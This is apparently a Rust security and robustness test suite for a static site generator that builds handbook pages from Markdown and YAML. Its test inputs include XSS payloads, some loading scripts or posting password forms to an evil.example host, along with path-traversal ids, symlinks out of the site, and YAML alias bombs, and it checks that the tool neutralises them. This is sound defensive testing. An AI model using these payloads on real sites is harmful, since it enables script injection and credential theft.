//! Input of every sort: broken, hostile, enormous. Each gives a clear finding or is handled right;
//! none brings the program down, leaves the site's folder, or runs in a reader's browser.

use crate::pages;
use crate::site::{Run, SOP, Site, files_below};
use std::fs;
use std::time::{Duration, Instant};

/// A page of free text.
fn page(title: &str, body: &str) -> String {
    format!("---\nkind: page\ntitle: {title}\n---\n\n{body}\n")
}

/// Checks and builds in spite of errors; both must end soon and by themselves. Gives the check.
#[track_caller]
fn survives(site: &Site) -> Run {
    let start = Instant::now();
    let run = site.check();
    assert!(run.code < 2, "{}", run.stderr);
    site.build_anyway();
    let took = start.elapsed();
    assert!(took < Duration::from_secs(20), "it took {took:?}");
    run
}

#[track_caller]
fn builds_soundly(site: &Site) {
    survives(site);
    pages::are_sound(&site.path("out"));
}

// Encodings

#[test]
fn a_file_in_another_encoding_is_found_where_it_begins() {
    // 返金 in Shift_JIS, in the text of a step.
    let mut bytes = SOP.replace("Greet the customer.", "Greet @@.").into_bytes();
    let at = bytes.windows(2).position(|two| two == b"@@").expect("the place");
    bytes.splice(at..at + 2, *b"\x95\xd4\x8b\xe0");
    let site = Site::new().file("sops/refund.md", bytes);
    site.finds(&[("file/not-utf8", "11:10")]);
    site.finds_one("file/not-utf8", &["UTF-8", "Save as"]);
    builds_soundly(&site);
    assert!(site.main("refund.html").contains("Refund the order"));
}

#[test]
fn what_else_is_wrong_with_such_a_file_is_found_too() {
    let mut bytes = SOP.replace("department: support\n", "").into_bytes();
    bytes.extend(b"\nCaf\xe9\n");
    let site = Site::new().file("sops/refund.md", bytes);
    assert_eq!(site.rules(), ["metadata/missing-department", "file/not-utf8"]);
}

#[test]
fn a_file_in_utf16_is_found_and_read() {
    for little in [true, false] {
        let units = format!("\u{feff}{SOP}").encode_utf16().collect::<Vec<u16>>();
        let bytes = units.iter().flat_map(|unit| if little { unit.to_le_bytes() } else { unit.to_be_bytes() });
        let site = Site::new().file("sops/refund.md", bytes.collect::<Vec<u8>>());
        site.finds_one("file/not-utf8", &["UTF-16"]);
        builds_soundly(&site);
        assert!(site.main("refund.html").contains("Refund the order"));
    }
}

#[test]
fn a_file_in_utf16_without_its_mark_is_found() {
    let bytes: Vec<u8> = SOP.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let site = Site::new().file("sops/refund.md", bytes);
    builds_soundly(&site);
    assert!(site.rules().contains(&"file/not-utf8".to_owned()), "{:?}", site.rules());
}

#[test]
fn a_byte_order_mark_and_line_ends_of_windows_change_nothing() {
    let text = SOP.replace("3. Refund", "   ```sh\n   a\n   b\n   ```\n3. Refund");
    let of = |text: String| {
        let site = Site::with_sop(&text);
        site.is_clean();
        site.build();
        site.read("out/refund.html")
    };
    let plain = of(text.clone());
    assert_eq!(of(format!("\u{feff}{text}")), plain);
    assert_eq!(of(text.replace('\n', "\r\n")), plain);
    assert_eq!(of(format!("\u{feff}{}", text.replace('\n', "\r\n"))), plain);
}

#[test]
fn a_collection_and_settings_may_have_a_byte_order_mark_and_line_ends_of_windows() {
    let site = Site::with_sop(SOP)
        .file("sops/roles.yaml", "\u{feff}roles:\r\n  - id: agent\r\n    title: Agent\r\n")
        .file("sopwith.toml", "\u{feff}title = \"Handbook\"\r\n");
    site.is_clean();
    site.build();
    assert!(site.read("out/index.html").contains("<h1>Handbook</h1>"));
}

#[test]
fn nul_bytes_do_no_harm() {
    let site = Site::with_sop(&SOP.replace("Greet the", "Greet\0the").replace("request", "re\0quest"));
    builds_soundly(&site);
    assert!(!site.read("out/refund.html").contains('\0'));
}

#[test]
fn control_characters_do_not_reach_the_terminal() {
    let evil = "\u{1b}[31mred\u{7}\u{9b}31m";
    let site = Site::with_sop(&SOP.replace("RMA.", &format!("[[{evil}]].")).replace("title:", &format!("status: \"{evil}\"\ntitle:")));
    let run = survives(&site);
    assert_eq!(run.code, 1);
    let is_safe = |text: &str| !text.chars().any(|char| char.is_control() && !matches!(char, '\n'));
    assert!(is_safe(&run.stderr), "{:?}", run.stderr);
    assert!(!site.run(&["check", "--format", "json"]).stdout.contains('\u{1b}'));
}

// Front matter

#[test]
fn tabs_in_yaml_are_found() {
    let site = Site::with_sop(&SOP.replace("  RMA:", "\tRMA:"));
    site.finds_one("file/invalid-yaml", &["sops/refund.md:6:", "use spaces instead of tabs"]);
}

#[test]
fn front_matter_that_is_not_closed_is_found_and_both_halves_are_read() {
    let site = Site::with_sop(&SOP.replacen("\n---\n\n## Instr", "\n\n## Instr", 1).replace("RMA.", "[[nowhere]]."));
    site.finds(&[("file/front-matter-not-closed", "1:1"), ("links/broken-document", "14:31")]);
}

#[test]
fn front_matter_that_is_not_opened_is_found_and_both_halves_are_read() {
    let site = Site::with_sop(SOP.strip_prefix("---\n").unwrap_or(SOP));
    site.finds(&[("file/front-matter-not-opened", "1:1")]);
    builds_soundly(&site);
    assert!(site.main("refund.html").contains("<h1>Handle a refund request</h1>"));
}

#[test]
fn front_matter_in_toml_is_found() {
    let site = Site::with_sop("+++\ntitle = \"A\"\n+++\n\n## Instructions\n\n1. Do it.\n");
    site.finds(&[("file/front-matter-is-toml", "1:1")]);
    site.finds_one("file/front-matter-is-toml", &["`title: A`"]);
}

#[test]
fn a_rule_at_the_top_of_a_text_is_no_front_matter() {
    let site = Site::new().file("sops/a.md", "***\n\nText: more\n\n---\n\nText.\n");
    assert!(site.rules().iter().all(|rule| rule.starts_with("metadata/missing-")), "{:?}", site.rules());
}

#[test]
fn fences_of_front_matter_may_have_blanks_after_them() {
    Site::with_sop(&SOP.replace("---\n", "--- \t\n")).is_clean();
    Site::with_sop(&SOP.replacen("\n---\n", "\n...\n", 1)).is_clean();
}

#[test]
fn an_empty_file_has_one_fault() {
    for text in ["", " \n\t\n", "\u{feff}"] {
        let site = Site::with_sop(text);
        site.finds(&[("file/empty", "1:1")]);
        builds_soundly(&site);
    }
    assert_eq!(Site::with_sop(SOP).file("sops/roles.yaml", "").rules(), ["file/empty"]);
}

#[test]
fn front_matter_alone_and_empty_front_matter_are_no_trouble() {
    for text in ["---", "---\n", "---\n---", "---\n---\n", "---\n# only a comment\n---\n", "---\n~\n---\n", "---\n- a\n---\n", "---\nwords\n---\n"] {
        let site = Site::with_sop(text);
        assert_eq!(survives(&site).code, 1, "{text}");
    }
}

#[test]
fn two_yaml_documents_in_one_are_found() {
    assert_eq!(Site::with_sop(SOP).file("sops/roles.yaml", "roles:\n  - title: A\n---\nroles:\n  - title: B\n").rules(), ["file/invalid-yaml"]);
}

#[test]
fn a_key_that_stands_twice_is_found_with_both_places() {
    let site = Site::with_sop(&SOP.replace("purpose:", "department: other\npurpose:"));
    site.finds(&[("file/duplicate-key", "4:1")]);
    let said = site.check().stderr;
    assert!(said.contains("3 | department: support") && said.contains("4 | department: other"), "{said}");
}

#[test]
fn words_that_yaml_reads_as_other_things_stay_words() {
    let site = Site::with_sop(&SOP.replace("title: Handle a refund request", "title: 2026-09-01\nversion: 1.10").replace("RMA:", "NO:"));
    site.is_clean();
    site.build();
    let page = site.main("refund.html");
    assert!(page.contains("<h1>2026-09-01</h1>") && page.contains(">1.10<") && page.contains(">NO</dt>"), "{page}");
}

#[test]
fn aliases_of_yaml_unfold() {
    let site = Site::with_sop(&SOP.replace("department: support", "department: &d support\nowner: *d"));
    site.is_clean();
}

#[test]
fn aliases_that_blow_up_are_found() {
    let mut text = String::from("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
    for level in 1..12 {
        text += &format!("a{level}: &a{level} [{}]\n", vec![format!("*a{}", level - 1); 10].join(", "));
    }
    for site in [Site::with_sop(&SOP.replace("title:", &format!("{text}title:"))), Site::with_sop(SOP).file("sops/roles.yaml", &text)] {
        survives(&site);
        assert!(site.rules().contains(&"file/invalid-yaml".to_owned()), "{:?}", site.rules());
    }
}

#[test]
fn yaml_nested_without_end_is_found() {
    let depth = 100_000;
    let texts = ["[".repeat(depth), "{a: ".repeat(depth), "- ".repeat(depth), format!("{}{}", "[".repeat(depth), "]".repeat(depth))];
    for text in texts {
        let site = Site::with_sop(&SOP.replace("title:", &format!("tags: {text}\ntitle:"))).file("sops/roles.yaml", format!("roles: {text}\n"));
        assert_eq!(survives(&site).code, 1);
    }
}

// Markdown

#[test]
fn markdown_nested_without_end_is_read() {
    let lists: String = (0..2_000).map(|depth| format!("{}- a\n", " ".repeat(2 * depth))).collect();
    let texts = [
        ">".repeat(100_000),
        "> ".repeat(50_000) + "a",
        "[".repeat(100_000),
        "[a](".repeat(50_000),
        "![".repeat(50_000),
        "[[".repeat(50_000),
        "- ".repeat(50_000) + "a",
        "1. ".repeat(50_000) + "a",
        lists,
        "*".repeat(100_000),
        "*a ".repeat(50_000),
        "**a _b ".repeat(20_000),
        "*a*".repeat(30_000),
        "~~".repeat(50_000),
        "`".repeat(100_000),
        "`a``".repeat(30_000),
        "<div>".repeat(20_000),
        "<a><b>".repeat(10_000) + "x",
        "</div>".repeat(20_000),
        "<!--".repeat(30_000),
        "&".repeat(100_000),
        "\\".repeat(100_000),
        "#".repeat(100_000),
        "|a".repeat(20_000) + "\n" + &"|-".repeat(20_000) + "\n" + &"|a".repeat(20_000),
        "a: b\n: c\n".repeat(10_000),
        "[^1]".repeat(20_000) + "\n\n[^1]: [^1]\n",
        "{".repeat(100_000),
        "**「".repeat(20_000),
        "http://a.b/".repeat(5_000),
        "→".repeat(30_000),
    ];
    for text in texts {
        let name: String = text.chars().take(12).collect();
        let start = Instant::now();
        // Where steps are, where text is, and in a value.
        let site = Site::new()
            .file("sops/steps.md", SOP.replace("Greet the customer.", &text))
            .file("sops/text.md", page("Text", &text))
            .file("sops/value.md", SOP.replace("purpose: Give", &format!("purpose: |\n  {}\n  Give", text.replace('\n', "\n  "))));
        site.build_anyway();
        let took = start.elapsed();
        assert!(took < Duration::from_secs(20), "{name}… took {took:?}");
    }
}

#[test]
fn a_footnote_that_mentions_itself_ends() {
    builds_soundly(&Site::new().file("sops/a.md", page("A", "Text[^a].\n\n[^a]: Note[^b].\n\n[^b]: Note[^a] and [^b].")));
}

#[test]
fn very_many_findings_are_told() {
    for (count, text) in [(20_000, "[[b]]\n"), (2_000, "[[b]] ")] {
        let site = Site::new().file("sops/a.md", page("A", &text.repeat(count)));
        let start = Instant::now();
        let run = site.check();
        let took = start.elapsed();
        assert_eq!(run.code, 1);
        assert!(run.stderr.ends_with(&format!("{count} errors in 1 document\n")));
        assert!(took < Duration::from_secs(10), "{text:?} took {took:?}");
    }
}

#[test]
fn a_finding_in_a_very_long_line_is_shown_shortly() {
    let site = Site::new().file("sops/a.md", page("A", &format!("{}[[b]]", "word ".repeat(100_000))));
    let said = site.check().stderr;
    assert!(said.contains("[[b]]") && said.len() < 5_000, "{} bytes", said.len());
}

#[test]
fn a_file_of_fifty_megabytes_is_passed_over() {
    let site = Site::with_sop(SOP);
    for name in ["sops/big.md", "sops/big.yaml"] {
        let file = fs::File::create(site.path(name)).expect("a file");
        file.set_len(50 * 1024 * 1024).expect("a large file");
    }
    site.finds(&[("file/too-large", "1:1"), ("file/too-large", "1:1")]);
    let said = site.check().stderr;
    assert!(said.contains("50.0 MiB") && said.contains("may have 4 MiB"), "{said}");
    builds_soundly(&site);
    assert!(site.main("refund.html").contains("Refund the order"));
}

#[test]
fn settings_of_fifty_megabytes_are_passed_over() {
    let site = Site::with_sop(SOP);
    fs::File::create(site.path("sopwith.toml")).and_then(|file| file.set_len(50 * 1024 * 1024)).expect("a large file");
    site.finds(&[("file/too-large", "1:1")]);
}

#[test]
fn large_files_that_are_no_documents_may_be_published() {
    let site = Site::new().file("sops/a.md", page("A", "[film](film.mp4)"));
    fs::File::create(site.path("sops/film.mp4")).and_then(|file| file.set_len(50 * 1024 * 1024)).expect("a large file");
    site.is_clean();
    site.build();
    assert_eq!(fs::metadata(site.path("out/files/film.mp4")).map(|file| file.len()).ok(), Some(50 * 1024 * 1024));
}

// Names

#[test]
fn names_of_blanks_emoji_and_signs_become_pages() {
    let mut site = Site::new();
    for (number, name) in [" ", "👋", "a b", "返金 手順", "100%", "a#b", "a&b", "it's", "(a)", "-", "...a", "a+b=c", "é"].iter().enumerate() {
        site = site.file(&format!("sops/{number}/{name}.md"), page(&format!("T{number}"), "Text."));
    }
    builds_soundly(&site);
    let home = site.main("index.html");
    assert!((0..13).filter(|number| *number != 10).all(|number| home.contains(&format!(">T{number}</a>"))), "{home}");
}

#[cfg(target_os = "linux")]
#[test]
fn names_that_only_some_systems_allow_become_pages() {
    let mut site = Site::new();
    for (number, name) in ["a?b", "a:b", "a\"b", "<a>", "a|b", "a\\b", "a*b", "a\nb", "a\u{1b}b", "\u{202e}a"].iter().enumerate() {
        site = site.file(&format!("sops/{number}/{name}.md"), page(&format!("T{number}"), "Text [[nowhere]]."));
    }
    let run = survives(&site);
    assert!(!run.stderr.contains('\u{1b}'), "{:?}", run.stderr);
    pages::are_sound(&site.path("out"));
}

#[cfg(target_os = "linux")]
#[test]
fn a_name_that_is_not_unicode_is_found() {
    use std::os::unix::ffi::OsStrExt;
    let site = Site::with_sop(SOP);
    fs::write(site.path("sops").join(std::ffi::OsStr::from_bytes(b"caf\xe9.md")), SOP).expect("a file");
    assert_eq!(site.rules(), ["file/unusable-name"]);
    builds_soundly(&site);
}

#[cfg(target_os = "linux")]
#[test]
fn two_names_that_differ_in_their_encoding_are_found() {
    let site = Site::new().file("sops/\u{e9}.md", page("A", "Text.")).file("sops/e\u{301}.md", page("B", "Text."));
    assert_eq!(site.rules(), ["file/unusable-name"]);
    builds_soundly(&site);
}

#[cfg(target_os = "linux")]
#[test]
fn two_files_whose_pages_some_disks_cannot_tell_apart_are_found() {
    let site = Site::new().file("sops/A.md", page("One", "Text.")).file("sops/a.md", page("Two", "Text."));
    site.finds_one("metadata/page-taken", &["sops/A.md", "sops/a.md", "capitals"]);
    builds_soundly(&site);
    assert!(files_below(&site.path("out")).iter().any(|file| file == "a-1.html"), "{:?}", site.files("out"));
}

#[test]
fn an_entry_and_a_file_that_become_one_page_are_found() {
    let site = Site::new()
        .file("sops/x.yaml", "roles:\n  - id: y\n    title: Entry\n")
        .file("sops/x/y.md", "---\nkind: page\nid: z\ntitle: File\n---\n\nText.\n");
    site.finds_one("metadata/page-taken", &["`x/y.html`", "sops/x.yaml", "sops/x/y.md"]);
    builds_soundly(&site);
}

#[test]
fn two_endings_that_become_one_page_are_found() {
    let site = Site::new().file("sops/a.md", page("One", "Text.")).file("sops/a.markdown", page("Two", "Text."));
    assert!(site.rules().contains(&"metadata/page-taken".to_owned()), "{:?}", site.rules());
    builds_soundly(&site);
}

#[test]
fn a_static_file_and_a_document_that_become_one_page_are_found() {
    let site = Site::with_sop(SOP).file("static/refund.html", "mine");
    site.finds_one("metadata/page-taken", &["static/refund.html", "sops/refund.md"]);
}

#[test]
fn documents_named_like_pages_of_the_program_take_their_place() {
    let mut site = Site::with_sop(SOP);
    for name in ["index", "glossary", "404", "departments/support", "roles/index", "departments/index"] {
        site = site.file(&format!("sops/{name}.md"), page(&format!("My {name}"), "Our RMA."));
    }
    let site = site.file("sops/people.yaml", "roles:\n  - title: Agent\ndepartments:\n  - id: dept\n    title: Dept\n");
    site.is_clean();
    builds_soundly(&site);
    for name in ["index", "glossary", "404", "departments/support", "roles/index"] {
        assert!(site.main(&format!("{name}.html")).contains(&format!("<h1>My {name}</h1>")), "{name}");
    }
}

#[test]
fn ids_never_leave_the_output() {
    for id in ["..", "../x", "../../x", "/etc/x", "a/b", "a\\b", "<script>", "a b", "C:x", ".", ".hidden", "a\u{0}b", "\"", "#a", "a?b"] {
        let id = serde_json::to_string(id).expect("a string");
        let site = Site::new()
            .file("sops/a.md", format!("---\nkind: page\nid: {id}\ntitle: A\n---\n\nText.\n"))
            .file("sops/b.yaml", format!("roles:\n  - id: {id}\n    title: B\n"))
            .file("sops/c.md", format!("---\nkind: page\naliases: [{id}, \"../../{}\"]\ntitle: C\n---\n\nText.\n", id.trim_matches('"')));
        assert!(site.rules().contains(&"metadata/bad-id".to_owned()), "{id}: {:?}", site.rules());
        builds_soundly(&site);
        let mut around: Vec<String> = fs::read_dir(site.folder()).expect("the site").map(|entry| entry.expect("an entry").file_name().to_string_lossy().into_owned()).collect();
        around.sort();
        assert_eq!(around, ["out", "sops"], "{id}");
    }
}

#[test]
fn ids_that_windows_cannot_store_are_found() {
    for id in ["CON", "nul", "com1", "a."] {
        let site = Site::new().file("sops/roles.yaml", format!("roles:\n  - id: {id}\n    title: A\n"));
        assert_eq!(site.rules(), ["metadata/bad-id"], "{id}");
    }
}

// Links on the disk

#[cfg(unix)]
fn link(site: &Site, target: &std::path::Path, name: &str) {
    let name = site.path(name);
    fs::create_dir_all(name.parent().expect("a folder")).expect("folders");
    std::os::unix::fs::symlink(target, name).expect("a link");
}

#[cfg(unix)]
#[test]
fn a_link_that_leads_in_a_circle_is_found() {
    let site = Site::with_sop(SOP);
    link(&site, &site.path("sops"), "sops/deep/again");
    site.finds_one("file/link-loop", &["sops/deep/again"]);
    builds_soundly(&site);
}

#[cfg(unix)]
#[test]
fn a_link_to_itself_is_found() {
    let site = Site::with_sop(SOP);
    link(&site, &site.path("sops/self.md"), "sops/self.md");
    assert_eq!(site.check().code, 1);
    builds_soundly(&site);
}

#[cfg(unix)]
#[test]
fn a_link_to_nothing_is_found() {
    let site = Site::with_sop(SOP);
    link(&site, &site.path("sops/absent.md"), "sops/dangling.md");
    site.finds_one("file/unreadable", &["sops/dangling.md"]);
    builds_soundly(&site);
}

#[cfg(unix)]
#[test]
fn a_link_out_of_the_site_publishes_nothing() {
    let outside = Site::new()
        .file("secret.md", page("Secret", "The password is 1234."))
        .file("secret.png", "The password is 1234.")
        .file("deep/secret.yaml", "roles:\n  - title: The password is 1234.\n");
    let site = Site::with_sop(&SOP.replace("RMA.", "RMA ![a](secret.png) ![b](folder/secret.png)."));
    link(&site, &outside.path("secret.md"), "sops/secret.md");
    link(&site, &outside.path("secret.png"), "sops/secret.png");
    link(&site, outside.folder(), "sops/folder");
    link(&site, &outside.path("secret.png"), "static/secret.png");
    link(&site, outside.folder(), "static/folder");
    let rules = site.rules();
    assert_eq!(rules.iter().filter(|rule| *rule == "file/outside-site").count(), 5, "{:?}", site.check().stderr);
    builds_soundly(&site);
    for file in site.files("out") {
        let bytes = fs::read(site.path("out").join(&file)).expect("a file");
        assert!(!String::from_utf8_lossy(&bytes).contains("password"), "{file}");
    }
}

#[cfg(unix)]
#[test]
fn a_link_out_of_the_site_is_not_walked() {
    let site = Site::with_sop(SOP);
    link(&site, std::path::Path::new("/"), "sops/everything");
    let start = Instant::now();
    assert_eq!(site.rules(), ["file/outside-site"]);
    assert!(start.elapsed() < Duration::from_secs(5), "{:?}", start.elapsed());
}

#[cfg(unix)]
#[test]
fn templates_and_themes_are_not_read_from_outside() {
    let outside = Site::new().file("home.html", "The password is 1234.").file("theme.css", "/* The password is 1234. */");
    let site = Site::with_sop(SOP);
    link(&site, &outside.path("home.html"), "templates/home.html");
    link(&site, &outside.path("theme.css"), "themes/default/extra.css");
    site.build_anyway();
    for file in site.files("out") {
        assert!(!site.read(&format!("out/{file}")).contains("password"), "{file}");
    }
}

#[cfg(unix)]
#[test]
fn a_link_inside_the_site_is_followed() {
    let site = Site::new().file("shared/refund.md", SOP).file("sops/start.md", page("Start", "[[refund]]"));
    link(&site, &site.path("shared/refund.md"), "sops/refund.md");
    site.is_clean();
    site.build();
    assert!(site.main("refund.html").contains("Refund the order"));
}

#[test]
fn a_folder_named_like_a_document_is_a_folder() {
    let site = Site::with_sop(SOP).file("sops/folder.md/inner.md", page("Inner", "Text."));
    site.is_clean();
    builds_soundly(&site);
    assert!(site.main("folder.md/inner.html").contains("Text."));
}

#[test]
fn hidden_files_and_foreign_folders_are_passed_over() {
    Site::with_sop(SOP).file("sops/.draft.md", "").file("sops/.git/a.md", "").file("sops/node_modules/b/README.md", "").is_clean();
}

#[test]
fn a_site_without_documents_is_a_site() {
    let site = Site::new().file("sops/notes.txt", "nothing");
    site.is_clean();
    builds_soundly(&site);
    assert!(site.main("index.html").contains("There are no documents yet."));
}

// Readers' browsers

/// What an attacker would write where words are expected.
const EVIL: [&str; 4] =
    ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'><svg onload=alert(1)>", "</title></main><script src=//evil.example/x.js></script>"];

#[test]
fn no_field_reaches_a_page_unescaped() {
    for evil in EVIL {
        let quoted = serde_json::to_string(evil).expect("a string");
        let front = format!(
            "title: {quoted}\ndescription: {quoted}\ndepartment: {quoted}\nowner: {quoted}\nversion: {quoted}\naudience: [{quoted}]\ntags: [{quoted}]\n\
             situations: [{quoted}]\npurpose: {quoted}\naliases: [{quoted}]\nglossary:\n  {quoted}: {quoted}\nlang: en"
        );
        let yaml_steps = format!(
            "instructions:\n  - phase: {quoted}\n    steps:\n      - ask: {quoted}\n        id: {quoted}\n        role: {quoted}\n        tool: {quoted}\n        \
             channel: {quoted}\n        to: {quoted}\n        needs: {quoted}\n        say: {quoted}\n        record: [{quoted}]\n        answers: {{ {quoted}: end }}\n"
        );
        let body = format!(
            "## {evil}\n\n1. {evil} {{#a role={quoted}}}\n   - {evil} → end\n\n[{evil}](https://example.com/ '{evil}') ![{evil}](https://example.com/a.png) `{evil}`\n\n\
             ```{evil}\n{evil}\n```\n\n> [!{evil}]\n> a\n\n[[nowhere|{evil}]] [[{evil}]] <{evil}>\n\n| {evil} |\n|---|\n| {evil} |\n\n[^1]\n\n[^1]: {evil}\n"
        );
        let settings = format!("title = {quoted}\ndescription = {quoted}\nbase_url = \"https://example.com/\"\nedit_url = \"https://example.com/{{path}}?{}\"\n", evil.replace(['"', ' '], ""));
        let site = Site::new()
            .file("sops/a.md", format!("---\n{front}\n{yaml_steps}---\n"))
            .file("sops/b.md", format!("---\n{front}\n---\n\n{body}\n\n## Instructions\n\n{body}\n"))
            .file("sops/c.yaml", format!("terms:\n  - {{ title: {quoted}, definition: {quoted}, synonyms: [{quoted}] }}\nroles:\n  - {{ title: {quoted}, may: {quoted} }}\n"))
            .file("sops/d.yaml", format!("departments:\n  - {{ title: {quoted}, purpose: {quoted} }}\n"))
            .file("sopwith.toml", settings);
        builds_soundly(&site);
        for file in site.files("out").iter().filter(|file| file.ends_with(".html")) {
            let html = site.read(&format!("out/{file}"));
            assert!(!html.contains("<script") && !html.contains("<svg") && !html.contains("<img src=x"), "{file}: {html}");
        }
    }
}

#[test]
fn the_words_of_a_title_with_html_in_it_are_shown() {
    let site = Site::with_sop(&SOP.replace("Handle a refund request", "Use <b> & \"quotes\""));
    site.is_clean();
    builds_soundly(&site);
    let html = site.read("out/refund.html");
    assert!(html.contains("<h1>Use &lt;b&gt; &amp; &quot;quotes&quot;</h1>"), "{html}");
    assert!(html.contains("<title>Use &lt;b&gt; &amp; &quot;quotes&quot; · Knowledge base</title>"), "{html}");
}

#[test]
fn raw_html_is_kept_as_far_as_it_is_harmless() {
    let body = "<details open><summary>More</summary>\n\n*Text* with <kbd>Ctrl</kbd> and H<sub>2</sub>O.<br>\n\n</details>\n\n<table><tr><td>a</td></tr></table>";
    let site = Site::new().file("sops/a.md", page("A", body));
    site.is_clean();
    builds_soundly(&site);
    let html = site.main("a.html");
    for words in ["<details open=\"\"><summary>More</summary>", "<em>Text</em>", "<kbd>Ctrl</kbd>", "H<sub>2</sub>O", "<td>a</td>"] {
        assert!(html.contains(words), "no {words} in {html}");
    }
}

#[test]
fn raw_html_that_could_do_something_is_dropped() {
    for body in [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "a <script>alert(1)</script> b",
        "<iframe src=\"https://evil.example/\"></iframe>",
        "<style>body { display: none }</style>",
        "<p style=\"color: red\" onclick=\"alert(1)\">a</p>",
        "<img src=\"x.png\" onerror=\"alert(1)\" alt=\"\">",
        "<img src=\"https://evil.example/x.png\" alt=\"\">",
        "<a href=\"javascript:alert(1)\">a</a>",
        "<a href=\" &#106;avascript:alert(1)\">a</a>",
        "<a href=\"java\nscript:alert(1)\">a</a>",
        "<form action=\"https://evil.example/\"><input name=\"password\"><button>Go</button></form>",
        "<svg onload=\"alert(1)\"><a xlink:href=\"javascript:alert(1)\"></a></svg>",
        "<math href=\"javascript:alert(1)\">a</math>",
        "<object data=\"https://evil.example/\"></object><embed src=\"https://evil.example/\">",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/\">",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
        "<video src=\"https://evil.example/x.mp4\" autoplay></video>",
        "<audio src=\"https://evil.example/x.mp3\"></audio>",
        "<input type=\"image\" src=\"https://evil.example/x.png\">",
        "<table background=\"https://evil.example/x.png\"><tr><td>a</td></tr></table>",
        "<blockquote cite=\"https://evil.example/\">a</blockquote>",
        "\u{f8fe}<a href=\"\u{f8fe}javascript:alert(1)\">a</a>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><script>alert(1)</script></template>",
    ] {
        let site = Site::new().file("sops/a.md", page("A", body));
        builds_soundly(&site);
        let html = site.main("a.html");
        for words in ["alert(1)\"", "<script", "onerror=", "<button", "evil.example/\" ", "style="] {
            assert!(!html.contains(words), "{body}: {html}");
        }
    }
}

#[test]
fn tags_that_are_not_closed_do_not_swallow_the_page() {
    for tag in [
        "<div>", "<div", "<details>", "</div></div>", "</main></body></html>", "<!--", "<!-- a", "<textarea>", "<title>", "<xmp>", "<plaintext>", "<select>",
        "<table>", "<b><i>", "<a href=\"https://example.com/\">", "<p", "<![CDATA[", "<?php", "<!DOCTYPE html>", "<script>", "<style>", "<template>", "<pre>",
    ] {
        let site = Site::with_sop(&SOP.replace("## Instr", &format!("Before {tag} after.\n\n{tag}\n\n## Instr"))).file("sops/a.md", page("A", tag));
        builds_soundly(&site);
        for name in ["out/refund.html", "out/a.html"] {
            let html = site.read(name);
            let (_, after) = html.split_once("</main>").unwrap_or_else(|| panic!("{tag}: {html}"));
            assert!(after.contains("<footer class=\"site-footer\">"), "{tag}: {after}");
        }
    }
}

#[test]
fn comments_are_not_published() {
    let site = Site::new().file("sops/a.md", page("A", "Text <!-- secret --> text.\n\n<!--\nsecret\n-->\n\n<div><!-- secret --></div>"));
    site.is_clean();
    builds_soundly(&site);
    assert!(!site.read("out/a.html").contains("secret"));
}

#[test]
fn a_picture_elsewhere_is_a_link_and_is_not_loaded() {
    let site = Site::new().file("sops/a.md", page("A", "![The form](https://example.com/form.png) ![](//example.com/b.png)"));
    site.is_clean();
    builds_soundly(&site);
    let html = site.main("a.html");
    assert!(!html.contains("<img"), "{html}");
    assert!(html.contains("<a class=\"image-elsewhere\" href=\"https://example.com/form.png\">The form</a>"), "{html}");
}

#[test]
fn headings_named_like_places_of_the_page_have_names_of_their_own() {
    let headings = ["Content", "Contents title", "Used by", "Footnotes", "Page terms", "Term RMA", "fn-1", "Term RMA meaning", "fnref-1"];
    let body: String = headings.iter().map(|heading| format!("## {heading}\n\nText[^1].\n\n")).collect();
    let site = Site::with_sop(&SOP.replace("## Instr", &format!("{body}[^1]: A note.\n\n## Instr"))).file("sops/a.md", page("A", "[[refund#used-by]] [[refund]]"));
    builds_soundly(&site);
}

#[test]
fn steps_named_like_places_of_the_page_are_found_or_kept_apart() {
    for id in ["content", "used-by", "contents-title", "term-rma", "term-rma-meaning", "purpose", "glossary"] {
        let site = Site::with_sop(&SOP.replace("{#greet", &format!("{{#{id}"))).file("sops/a.md", page("A", "[[refund]]"));
        builds_soundly(&site);
    }
}

#[test]
fn names_in_raw_html_do_not_take_those_of_the_page() {
    let site = Site::with_sop(&SOP.replace("## Instr", "<p id=\"content\">a</p> <p id=\"greet\">b</p>\n\n## Instr"));
    builds_soundly(&site);
}

// Everything else

#[test]
fn changed_bytes_never_bring_the_program_down() {
    use proptest::prelude::*;
    use sopwith::compile::{self, Live};
    let pieces = ["---\n", "```", "[[", "]]", "{#", "}", "→", "|", "\t", "\r", "\0", "\u{feff}", "返", "👋", "<b>", "- ", "1. ", "> [!SAY]", ": ", "&a ", "*a", "\u{301}", "  ", "\n\n", "[^1]:"];
    let change = (0..SOP.len(), 0..40usize, proptest::sample::select(pieces.to_vec()));
    let mut runner = proptest::test_runner::TestRunner::new(ProptestConfig { cases: 200, failure_persistence: None, ..ProptestConfig::default() });
    let tried = runner.run(&proptest::collection::vec(change, 1..8), |changes| {
        let mut text = SOP.to_owned();
        for (at, length, piece) in changes {
            let floor = |mut at: usize| {
                while !text.is_char_boundary(at.min(text.len())) {
                    at -= 1;
                }
                at.min(text.len())
            };
            let (start, end) = (floor(at), floor(at + length));
            text.replace_range(start..end, piece);
        }
        let disk = Site::with_sop(&text);
        let disk = sopwith::vfs::Disk::open(disk.folder()).map(|opened| (opened, disk)).expect("the site");
        let checked = compile::check(&disk.0, &|_| {}).expect("a site");
        for found in &checked.diagnostics {
            sopwith::report::human(found, |path| checked.source(path), sopwith::report::Style { colour: true, width: 80 });
        }
        compile::build(&disk.0, &checked, Live::No, &|_| {}).expect("pages");
        Ok(())
    });
    tried.expect("no text brings it down");
}
